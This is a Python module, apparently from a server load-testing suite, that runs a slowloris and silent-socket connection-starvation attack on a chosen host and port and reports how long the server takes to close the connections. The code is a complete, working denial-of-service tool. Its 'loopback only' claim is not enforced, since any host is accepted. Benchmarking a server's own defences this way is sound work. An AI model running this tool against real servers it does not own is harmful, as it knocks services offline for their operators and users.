"""A connection-starvation attack on one address: silent sockets (connect, never send a byte) and
slowloris sockets (a request head trickled one byte a second), each reopened as soon as the
server closes it, so the counts hold for the whole attack. Loopback only; bounded in time.

``python -m loadtest.bench.attack HOST PORT --silent 10000 --slowloris 1000 --seconds 30``
prints one ``ATTACK_JSON {...}`` line at the end: connections opened, closed by the server and
how long the server took to close them.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import resource
import time
from dataclasses import dataclass, field
from typing import Any

import uvloop

SUMMARY_PREFIX = "ATTACK_JSON "
SLOW_HEAD = b"POST /api/flash-sales/items/1/purchase HTTP/1.1\r\nHost: x\r\nX-Slow: "
DRIP_S = 1.0  # slowloris: one byte a second, so a timer that restarts on every byte never fires
RECONNECT_PAUSE_S = 0.05  # after a failed connect: the listen queue was full


@dataclass
class Tally:
    opened: int = 0
    failed: int = 0
    closed_by_server: int = 0
    lifetimes: list[float] = field(default_factory=list)  # connect → the server's close, seconds

    def summary(self) -> dict[str, Any]:
        ordered = sorted(self.lifetimes)

        def at(q: float) -> float:
            return ordered[min(len(ordered) - 1, int(q * len(ordered)))] if ordered else 0.0

        return {
            "opened": self.opened,
            "failed_connects": self.failed,
            "closed_by_server": self.closed_by_server,
            "lifetime_p50_s": at(0.5),
            "lifetime_p99_s": at(0.99),
            "lifetime_max_s": ordered[-1] if ordered else 0.0,
        }


def raise_fd_limit(needed: int) -> int:
    """Raise this process's open-files limit towards its hard limit; the limit now in force."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < needed:
        soft = min(hard, max(needed, soft))
        resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))
    return soft


async def hold(host: str, port: int, drip: bool, until: float, tally: Tally) -> None:
    """One attacking socket, reopened whenever the server closes it, until ``until``."""
    while time.monotonic() < until:
        try:
            reader, writer = await asyncio.open_connection(host, port)
        except OSError:
            tally.failed += 1
            await asyncio.sleep(RECONNECT_PAUSE_S)
            continue
        tally.opened += 1
        opened = time.monotonic()
        try:
            closed = await until_closed(reader, writer, drip, until)
        finally:
            writer.close()
        if closed:
            tally.closed_by_server += 1
            tally.lifetimes.append(time.monotonic() - opened)


async def until_closed(
    reader: asyncio.StreamReader, writer: asyncio.StreamWriter, drip: bool, until: float
) -> bool:
    """Wait (dripping the head a byte at a time, if asked) until the server closes: True, or
    the attack ends first: False."""
    sent = 0
    while (left := until - time.monotonic()) > 0:
        if drip:
            if sent < len(SLOW_HEAD):
                writer.write(SLOW_HEAD[sent : sent + 1])
            else:
                writer.write(b"a")  # the header value never ends
            sent += 1
        try:
            data = await asyncio.wait_for(reader.read(4096), min(left, DRIP_S))
        except TimeoutError:
            continue
        except OSError:
            return True
        if not data:
            return True
    return False


async def attack(host: str, port: int, silent: int, slowloris: int, seconds: float) -> Tally:
    tally = Tally()
    until = time.monotonic() + seconds
    tasks = [hold(host, port, False, until, tally) for _ in range(silent)]
    tasks += [hold(host, port, True, until, tally) for _ in range(slowloris)]
    with contextlib.suppress(asyncio.CancelledError):
        await asyncio.gather(*tasks)
    return tally


def main() -> None:
    parser = argparse.ArgumentParser(prog="python -m loadtest.bench.attack", description=__doc__)
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("--silent", type=int, default=10_000)
    parser.add_argument("--slowloris", type=int, default=1_000)
    parser.add_argument("--seconds", type=float, default=30.0)
    args = parser.parse_args()
    raise_fd_limit(args.silent + args.slowloris + 256)
    tally = uvloop.run(attack(args.host, args.port, args.silent, args.slowloris, args.seconds))
    print(SUMMARY_PREFIX + json.dumps(tally.summary()), flush=True)


if __name__ == "__main__":
    main()
